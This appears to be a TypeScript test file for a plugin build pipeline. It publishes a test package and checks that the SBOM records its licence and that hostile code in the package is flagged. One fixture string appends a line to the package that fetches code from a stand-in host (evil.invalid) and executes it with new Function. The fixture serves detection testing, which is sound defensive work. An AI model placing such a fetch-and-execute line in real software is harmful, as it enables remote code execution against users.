import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packageSource } from '@guildhall/plugin-project';
import { policyInputSchema } from '@guildhall/policy';
import { runConcluded, type RunConcludedState } from '@guildhall/schema';
import { openInspector } from '../../inspection/inspector.ts';
import { packExample } from '../../testing/examples.ts';
import { aForge, type TestForge } from '../../testing/harness.ts';
import { publishPackage, type PublishedPackage } from '../../testing/registry.ts';
import { mara } from '../../testing/sessions.ts';
import { aPublisherAndItsPlugin, submit } from '../../testing/submit.ts';

const HARMLESS = 'export default (ms) => `${ms} milliseconds`;';
const HOSTILE = `${HARMLESS}\nfetch('https://evil.invalid/x').then((r) => r.text()).then((t) => new Function(t)());\n`;
const name = 'orchard.deal-digest';

let folder: string;
const opened: { close(): Promise<void> }[] = [];
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'guildhall-forge-along-'));
});
afterAll(async () => {
  for (const one of opened.reverse()) await one.close();
  await rm(folder, { recursive: true, force: true });
});

/** A forge whose registry has one package. */
async function aForgeWith(
  code: string,
  fields: object,
): Promise<{ forge: TestForge; published: PublishedPackage }> {
  const published = await publishPackage('pretty-ms', '9.2.0', code, undefined, fields);
  opened.push(published);
  const source = { GUILDHALL_REGISTRY: published.registry, GUILDHALL_PACKAGE_CACHE: folder };
  const inspector = openInspector(packageSource(source));
  opened.push(inspector);
  const forge = await aForge(inspector);
  opened.push(forge);
  await aPublisherAndItsPlugin(forge, name);
  return { forge, published };
}

async function pass(forge: TestForge, lockfile: string, id: string): Promise<RunConcludedState> {
  const archive = await packExample('deal-digest', { 'package-lock.json': lockfile });
  const runId = await submit(forge, archive, { id, pluginName: name });
  await Promise.all([forge.work('build', { runId }), forge.work('analysis', { runId })]);
  const told = (await forge.told('forge.run.concluded')).map((state) => runConcluded.state.parse(state));
  const mine = told.find((state) => state.runId === runId);
  if (!mine) throw new Error('the run has not concluded');
  return mine;
}

const facts = (state: RunConcludedState) => policyInputSchema.shape.facts.parse(state.facts);

describe('a version with a package', () => {
  it('tells what it brings, and its SBOM names the licence', async () => {
    const { forge, published } = await aForgeWith(HARMLESS, { license: 'MIT' });
    const told = await pass(forge, published.lockfile, 'ver_kind');
    expect(told).toMatchObject({ outcome: 'CONCLUDED', error: null });
    expect(facts(told).packages).toMatchObject({ bundled: 1, licences: ['MIT'], refusedLicences: [] });

    const { version } = await sbomOf(forge, 'ver_kind');
    expect(JSON.stringify(version)).toContain('"licenses":[{"license":{"id":"MIT"}}]');

    await pass(forge, published.lockfile, 'ver_kind_again');
    expect(await forge.rows('SELECT 1 FROM package_report')).toHaveLength(1);
    expect(await forge.rows(`SELECT name, package_version, bundled, licence FROM version_package`)).toEqual(
      ['ver_kind', 'ver_kind_again'].map(() => ({
        ...{ name: 'pretty-ms', package_version: '9.2.0' },
        ...{ bundled: true, licence: 'MIT' },
      })),
    );
  });

  it('that loads code from elsewhere is found in the package, and policies see it', async () => {
    const { forge, published } = await aForgeWith(HOSTILE, { license: 'SSPL-1.0' });
    const told = await pass(forge, published.lockfile, 'ver_evil');
    expect(facts(told).checks).toContainEqual({ name: 'dependencies', required: true, state: 'FAILED' });
    expect(facts(told).packages).toMatchObject({ refusedLicences: ['pretty-ms@9.2.0'] });
    const found = await forge.ask(
      mara,
      `{ _entities(representations: [{ __typename: "Version", id: "ver_evil" }]) {
        ... on Version { findings { nodes { package file line observed } } } } }`,
    );
    expect(JSON.stringify(found)).toContain(
      '"package":"pretty-ms@9.2.0","file":"pretty-ms@9.2.0/index.js","line":2,"observed":false',
    );
  });
});

async function sbomOf(forge: TestForge, id: string): Promise<{ version: unknown }> {
  const version = await forge.ask(
    mara,
    `{ _entities(representations: [{ __typename: "Version", id: "${id}" }]) {
      ... on Version { attestation { sbom } } } }`,
  );
  return { version };
}
